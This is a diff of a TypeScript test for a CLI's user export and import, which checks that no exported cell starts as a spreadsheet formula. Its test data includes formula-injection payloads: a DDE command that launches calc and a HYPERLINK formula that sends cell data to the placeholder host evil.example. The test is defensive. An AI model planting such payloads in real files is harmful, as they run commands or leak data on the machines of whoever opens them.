@@ -11,6 +11,7 @@ import { dynamodbDirectory } from '../../functions/adapters/dynamodb/directory.t
 import { openTable } from '../../functions/adapters/dynamodb/table.ts';
 import { runCli } from '../cli/run-cli.ts';
 import { ADMIN, type OtpClient, startClient } from '../http/client.ts';
+import { PRESET } from '../http/put-user.ts';
 import { DOMAINS } from '../http/token-client.ts';
 
 const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2+3', '@SUM(1)', "'=1+1"];
@@ -30,7 +31,7 @@ afterAll(async () => {
 const cli = (words: readonly string[], domain: string) =>
   runCli(['users', ...words, '--local', '--domain', domain], { port: new URL(client.service.url).port });
 const usersOf = (domain: string) =>
-  dynamodbDirectory(openTable('sekisho')).list(domain, { after: undefined, limit: 100 });
+  dynamodbDirectory(openTable('sekisho'), PRESET).list(domain, { after: undefined, limit: 100 });
 
 it('no cell of an export begins as a formula does, and an import reads what was there', async () => {
   for (const [at, note] of FORMULAS.entries()) {
